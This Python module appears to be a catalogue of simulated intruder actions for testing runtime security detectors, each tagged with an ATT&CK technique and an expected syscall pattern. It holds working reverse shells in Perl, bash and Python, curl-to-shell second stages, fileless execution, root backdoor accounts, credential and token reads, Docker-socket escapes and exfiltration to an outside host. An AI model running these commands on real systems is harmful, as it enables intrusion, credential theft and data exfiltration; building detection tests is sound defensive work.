"""What intruders do once a service runs commands for them: with what is in the image, or with what they bring."""
from attacks.attack import Attack as A
from node import NEIGHBOURS, OUTSIDE

WEB = f"http://{OUTSIDE}:8080"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
HOME = "/home/deploy"
SOCKETS = "-MSocket -e"
CONNECT = f'socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(%s,inet_aton("{OUTSIDE}")))or exit 1;'

EXECUTION = [
    A("T1059.004", "a shell looks who it is", "id", ("exec", r"/id$")),
    A("T1059.006", "a line of Python", "python3 -c 'import os; print(os.getuid())'", ("exec", r"/python3")),
    A("T1059", "a line of Perl", "perl -e 'print getppid'", ("exec", r"/perl$")),
    A("T1059.004", "a reverse shell by Perl",
      f"perl {SOCKETS} '{CONNECT % 4444}open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec \"/bin/sh\"'",
      ("exec", r"/(dash|sh)$")),
    A("T1059.004", "a reverse shell by bash and /dev/tcp",
      f"bash -c 'exec 5<>/dev/tcp/{OUTSIDE}/4445; sh <&5 >&5'", ("connect", r":4445$")),
    A("T1059.006", "a reverse shell by Python on a terminal of its own",
      "python3 -c 'import socket,pty,os; s=socket.create_connection((\"%s\",9001)); p,f=pty.fork();\n"
      "p or os.execv(\"/bin/sh\",[\"sh\",\"-c\",\"true\"]); s.sendall(b\"x\")'" % OUTSIDE, ("connect", r":9001$")),
    A("T1140", "commands decoded from base64", "echo aWQgLXU= | base64 -d | sh", ("exec", r"/base64$")),
    A("T1027.010", "a command built from octal numbers", "$(printf '\\156\\160\\162\\157\\143')", ("exec", r"/nproc$")),
    A("T1104", "a second stage from the web into a shell", f"curl -s {WEB}/stage.sh | sh", ("exec", r"/curl$")),
    A("T1620", "a second stage from the web into Python's memory",
      f"python3 -c 'import urllib.request as u; exec(u.urlopen(\"{WEB}/stage.py\").read())'", ("connect", rf"{OUTSIDE}:8080$")),
    A("T1620", "a program that never was a file",
      "perl -e '$n=\"job\";$f=syscall(319,$n,1);open(O,\">&=\",$f);open(I,\"<\",\"/bin/true\");binmode O;"
      "print O $_ while <I>;close I;O->flush;exec {\"/proc/self/fd/$f\"} \"kworker\"'", ("exec", r"memfd:")),
    A("T1204.005", "a library that came along is loaded by Python",
      f"curl -s -o /tmp/lib.so {WEB}/lib.so && python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/lib.so\")'",
      ("open", r"^/tmp/lib\.so$")),
    A("T1053.003", "a job for cron", "mkdir -p /etc/cron.d && echo '* * * * * root id' >/etc/cron.d/sync",
      ("open", r"^/etc/cron\.d/"), root=True),
]

PERSISTENCE = [
    A("T1543.002", "a systemd unit", "mkdir -p /etc/systemd/system && echo '[Service]' >/etc/systemd/system/sync.service",
      ("open", r"/sync\.service$"), root=True),
    A("T1546.004", "a line in a shell's profile", "echo 'id >/dev/null' >>/root/.bashrc", ("open", r"/\.bashrc$"), root=True),
    A("T1037.004", "a start script", "echo '#!/bin/sh' >/etc/rc.local", ("open", r"^/etc/rc\.local$"), root=True),
    A("T1098.004", "a key that may log in", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAA x' >>/root/.ssh/authorized_keys",
      ("open", r"/authorized_keys$"), root=True),
    A("T1136.001", "an account, by useradd", "useradd -M -o -u 0 backup2", ("exec", r"/useradd$"), root=True),
    A("T1136.001", "an account, by a line", "echo 'sync2:x:0:0::/:/bin/sh' >>/etc/passwd", ("open", r"^/etc/passwd$"), root=True),
    A("T1556.003", "a line in PAM's configuration", "echo 'auth sufficient pam_permit.so' >>/etc/pam.d/common-auth",
      ("open", r"^/etc/pam\.d/"), root=True),
    A("T1546.018", "a hook that Python runs at its start", "echo 'import os' >/usr/lib/python3/dist-packages/x.pth",
      ("open", r"/x\.pth$"), root=True),
    A("T1554", "a program of the image is replaced, and run", "cp /bin/true /usr/bin/uptime && uptime", ("exec", r"/uptime$"), root=True),
    A("T1505.003", "a web shell where pages are served", "mkdir -p /var/www/html && echo '<?php' >/var/www/html/x.php",
      ("open", r"/x\.php$"), root=True),
    A("T1574.006", "a library that all programs must load", f"curl -s -o /tmp/all.so {WEB}/lib.so; "
      "echo /tmp/all.so >/etc/ld.so.preload; true; rm /etc/ld.so.preload", ("open", r"^/etc/ld\.so\.preload$"), root=True),
    A("T1547.006", "a module that the kernel is to load at boot", "mkdir -p /etc/modules-load.d && echo rootkit >/etc/modules-load.d/r.conf",
      ("open", r"/modules-load\.d/"), root=True),
]

PRIVILEGES = [
    A("T1548.001", "a shell with the set-user-id bit", "cp /bin/sh /tmp/.sh && chmod 4755 /tmp/.sh && /tmp/.sh -c true",
      ("exec", r"^/tmp/\.sh$")),
    A("T1548.003", "a line in sudo's rules", "mkdir -p /etc/sudoers.d && echo 'ALL ALL=NOPASSWD: ALL' >/etc/sudoers.d/x",
      ("open", r"^/etc/sudoers\.d/"), root=True),
    A("T1611", "looking for a way to the host", "cat /proc/1/mountinfo /proc/sys/kernel/core_pattern",
      ("open", r"^/proc/sys/kernel/core_pattern$")),
    A("T1611", "a way to the host over a device", "mknod /tmp/disk b 254 0", ("exec", r"/mknod$"), root=True),
    A("T1055.008", "another process is traced",
      "perl -e '$p=fork;$p or do{sleep 1;exit};$r=syscall(101,16,$p,0,0);waitpid $p,0;syscall(101,17,$p,0,0);exit $r'",
      ("exec", r"/perl$")),
    A("T1055.009", "another process's memory is written",
      "perl -e '$p=fork;$p or do{sleep 1;exit};open(M,\"+<\",\"/proc/$p/mem\")or exit 1;close M'",
      ("open", r"^/proc/\d+/mem$")),
    A("T1574.006", "a library is put in front by LD_PRELOAD",
      f"curl -s -o /tmp/front.so {WEB}/lib.so && LD_PRELOAD=/tmp/front.so /bin/true", ("open", r"^/tmp/front\.so$")),
    A("T1574.007", "a program put in front in the PATH", "mkdir -p /tmp/bin && cp /bin/true /tmp/bin/ls && PATH=/tmp/bin:$PATH ls",
      ("exec", r"^/tmp/bin/ls$")),
]

EVASION = [
    A("T1105", "a program that came along is run", f"curl -s -o /tmp/.x {WEB}/tool && chmod +x /tmp/.x && /tmp/.x", ("exec", r"^/tmp/\.x$")),
    A("T1105", "a program that came along, without curl",
      f"perl {SOCKETS} '{CONNECT % 8080}syswrite S,\"GET /tool HTTP/1.0\\r\\n\\r\\n\";local $/;$b=<S>;$b=~s/^.*?\\r\\n\\r\\n//s;"
      "open O,\">/tmp/.y\";print O $b;close O;chmod 0755,\"/tmp/.y\";exec \"/tmp/.y\"'", ("exec", r"^/tmp/\.y$")),
    A("T1027.004", "a program is compiled on the spot",
      "export PATH=/usr/bin:/bin; echo 'int main(){return 0;}' >/tmp/a.c && gcc -o /tmp/a.out /tmp/a.c && /tmp/a.out", ("exec", r"^/tmp/a\.out$")),
    A("T1036.005", "a program under a name of the kernel's threads", "cp /bin/sleep /var/tmp/kworker && /var/tmp/kworker 0.1",
      ("exec", r"/kworker$")),
    A("T1036.003", "a shell under another name", "ln -s /bin/sh /tmp/httpd && /tmp/httpd -c true", ("exec", r"/(dash|sh|httpd)$")),
    A("T1036.009", "a process that leaves its family", "(setsid sh -c 'nproc; hostname' >/dev/null 2>&1 &)", ("exec", r"/(setsid|hostname)$")),
    A("T1564.001", "a hidden directory", "mkdir -p /tmp/.cache && echo x >/tmp/.cache/.data", ("open", r"/\.cache/\.data$")),
    A("T1070.002", "the system's logs are emptied", "for f in /var/log/dpkg.log /var/log/apt/history.log; do : >$f; done",
      ("open", r"^/var/log/"), root=True),
    A("T1070.004", "a tool is deleted after its work", "cp /bin/true /tmp/tool9; /tmp/tool9; rm -f /tmp/tool9", ("exec", r"^/tmp/tool9$")),
    A("T1070.003", "no history is to be kept", "unset HISTFILE; ln -sf /dev/null /tmp/.bash_history && history 2>/dev/null; true", ("exec", r"/ln$")),
    A("T1070.006", "a file gets an old date", "touch -d 2020-01-01 /tmp/.old", ("exec", r"/touch$")),
    A("T1222.002", "what was closed is opened to all", "mkdir -p /tmp/open && chmod 0777 /tmp/open", ("exec", r"/chmod$")),
    A("T1562.001", "looking for a guard to end", "pkill -0 -x falco; pkill -0 -x auditd; true", ("exec", r"/(pkill|pgrep)$")),
    A("T1497.001", "is this a machine or a sandbox?", "cat /sys/class/dmi/id/product_name /proc/cpuinfo >/dev/null; true", ("exec", r"/cat$")),
]

CREDENTIALS = [
    A("T1003.008", "password hashes", "cat /etc/shadow", ("open", r"^/etc/shadow$"), root=True),
    A("T1003.007", "another process's environment", "tr '\\0' '\\n' </proc/1/environ", ("open", r"^/proc/1/environ$"), root=True),
    A("T1552.001", "passwords in files", "grep -rsl password /etc /home; true", ("exec", r"/grep$")),
    A("T1552.001", "a cloud credential", f"cat {HOME}/.aws/credentials", ("open", r"/\.aws/credentials$")),
    A("T1552.001", "a cluster's credential", f"head -c 100 {HOME}/.kube/config", ("open", r"/\.kube/config$")),
    A("T1552.003", "a shell's history", f"tail {HOME}/.bash_history", ("open", r"/\.bash_history$")),
    A("T1552.004", "a private key", f"cp {HOME}/.ssh/id_ed25519 /tmp/k", ("open", r"/id_ed25519$")),
    A("T1528", "the token of the service account", f"cat {TOKEN}", ("open", r"/serviceaccount/token$")),
    A("T1552.007", "the engine is asked over its socket", "curl -s --unix-socket /run/docker.sock http://d/containers/json",
      ("connect", r"/docker\.sock")),
    A("T1610", "a container is ordered from the engine",
      "curl -s --unix-socket /run/docker.sock -d '{\"Image\":\"x\",\"HostConfig\":{\"Privileged\":true}}' http://d/containers/create",
      ("exec", r"/curl$")),
    A("T1110.001", "passwords are tried at a neighbour",
      f"for p in a b c; do timeout 1 curl -s -u admin:$p http://{NEIGHBOURS}.9/ ; done; true", ("connect", rf"{NEIGHBOURS}\.9:80$")),
]

DISCOVERY = [
    A("T1082", "what system is it", "uname -a; cat /etc/os-release", ("exec", r"/uname$")),
    A("T1033", "who am I, who is here", "whoami; w -h", ("exec", r"/whoami$")),
    A("T1087.001", "which accounts", "cut -d: -f1 /etc/passwd", ("exec", r"/cut$")),
    A("T1057", "which processes", "ps ax", ("exec", r"/ps$")),
    A("T1049", "which connections", "cat /proc/net/tcp /proc/net/unix", ("open", r"/net/(tcp|unix)$")),
    A("T1016", "which networks", "cat /proc/net/route /etc/resolv.conf", ("open", r"/net/route$")),
    A("T1083", "which programs run as root", "find / -xdev -perm -4000 -type f 2>/dev/null; true", ("exec", r"/find$")),
    A("T1518.001", "which guards", "ls /opt /etc/falco /var/lib/driftwatch 2>/dev/null; ps ax | grep -c tetragon; true", ("exec", r"/grep$")),
    A("T1613", "what container is it", "cat /proc/1/cgroup; ls -la /run/secrets /.dockerenv /run/.containerenv 2>/dev/null; true", ("open", r"/cgroup$")),
    A("T1680", "which disks", "df; cat /proc/partitions", ("exec", r"/df$")),
    A("T1652", "which drivers", "head /proc/devices", ("exec", r"/head$")),
    A("T1046", "which ports are open here", "perl -MSocket -e 'for $p(1..100){socket(S,PF_INET,SOCK_STREAM,0);"
      "connect(S,sockaddr_in($p,inet_aton(\"127.0.0.1\")))}'", ("connect", r"^127\.0\.0\.1:\d+$")),
    A("T1018", "which neighbours are there", "perl -MSocket -e 'for $h(2..40){socket(S,PF_INET,SOCK_STREAM,0);"
      f"connect(S,sockaddr_in(445,inet_aton(\"{NEIGHBOURS}.$h\")))}}'", ("connect", rf"^{NEIGHBOURS}\.\d+:445$")),
]

CONTROL = [
    A("T1071.001", "orders are fetched over the web", f"curl -s {WEB}/orders?id=7", ("connect", rf"{OUTSIDE}:8080$")),
    A("T1071.004", "data leave inside of names to look up",
      f"perl {SOCKETS} 'socket(S,PF_INET,SOCK_DGRAM,0);send(S,\"data.example\",0,sockaddr_in(53,inet_aton(\"{OUTSIDE}\")))'",
      ("connect", rf"{OUTSIDE}:53$")),
    A("T1071", "orders over IRC", f"perl {SOCKETS} '{CONNECT % 6667}syswrite S,\"NICK x\\n\"'", ("connect", r":6667$")),
    A("T1071.003", "data leave by mail", f"curl -s -m 2 smtp://{OUTSIDE}:25 >/dev/null; true", ("connect", r":25$")),
    A("T1571", "orders over a port that nobody uses", f"curl -s http://{OUTSIDE}:8088/orders", ("connect", r":8088$")),
    A("T1571", "a shell waits at a port",
      "timeout 1 perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);bind(S,sockaddr_in(31337,INADDR_ANY));listen(S,1);select(undef,undef,undef,.3)'",
      ("listen", r":31337$")),
    A("T1090.001", "a relay into the network",
      "timeout 1 python3 -c 'import socket,time; s=socket.create_server((\"0.0.0.0\",1080)); time.sleep(.3)'", ("listen", r":1080$")),
    A("T1572", "a tunnel through a Unix socket",
      "python3 -c 'import socket,os; p=\"/tmp/.t\"; l=socket.socket(socket.AF_UNIX); l.bind(p); l.listen(); c=socket.socket(socket.AF_UNIX);\n"
      f"c.connect(p); a,_=l.accept(); o=socket.create_connection((\"{OUTSIDE}\",443)); c.send(b\"x\"); o.send(a.recv(9)); os.unlink(p)'",
      ("connect", r"(/tmp/\.t|:443)")),
    A("T1095", "words over UDP that no protocol knows",
      f"bash -c 'echo beat >/dev/udp/{OUTSIDE}/123'", ("connect", rf"{OUTSIDE}:123$")),
    A("T1102.001", "a place on the web tells where to go", f"timeout 2 curl -s -m 1 http://{NEIGHBOURS}.80/paste/7; true", ("connect", rf"{NEIGHBOURS}\.80:80$")),
]

LOOT = [
    A("T1005", "what is worth taking", "cat /etc/passwd /etc/hostname >/tmp/loot1", ("exec", r"/cat$")),
    A("T1074.001", "loot is laid together", "mkdir -p /tmp/loot && cp /etc/group /tmp/loot/", ("exec", r"/cp$")),
    A("T1560.001", "loot is packed", "tar czf /tmp/loot.tgz /etc/apt 2>/dev/null", ("exec", r"/tar$")),
    A("T1041", "loot leaves over the way of the orders", f"curl -s -m 2 --data-binary @/etc/group {WEB}/up", ("exec", r"/curl$")),
    A("T1048.003", "loot leaves in clear over another way", f"bash -c 'cat /etc/group >/dev/tcp/{OUTSIDE}/21'", ("connect", r":21$")),
    A("T1567", "loot leaves to a service of the web", f"curl -s -m 2 -T /etc/hostname http://{OUTSIDE}:443/bucket/x", ("connect", r":443$")),
]

IMPACT = [
    A("T1496.001", "a miner", f"curl -s -o /tmp/miner {WEB}/tool && chmod +x /tmp/miner && /tmp/miner {OUTSIDE} 3333", ("connect", r":3333$")),
    A("T1486", "files are encrypted", "echo data >/tmp/f && openssl enc -aes-256-cbc -k x -pbkdf2 -in /tmp/f -out /tmp/f.locked && rm /tmp/f",
      ("exec", r"/openssl$")),
    A("T1485", "files are overwritten", "echo data >/tmp/g && shred -u /tmp/g", ("exec", r"/shred$")),
    A("T1499.001", "processes without end, nearly", "i=0; while [ $i -lt 60 ]; do /bin/true; i=$((i+1)); done", ("exec", r"/true$")),
    A("T1489", "the service is stopped for a moment", "kill -STOP $PPID; sleep 0.15; kill -CONT $PPID", ("exec", r"/sleep$")),
    A("T1491.001", "a page is defaced", "mkdir -p /tmp/www && echo owned >/tmp/www/index.html", ("open", r"/index\.html$")),
]

ALL = EXECUTION + PERSISTENCE + PRIVILEGES + EVASION + CREDENTIALS + DISCOVERY + CONTROL + LOOT + IMPACT
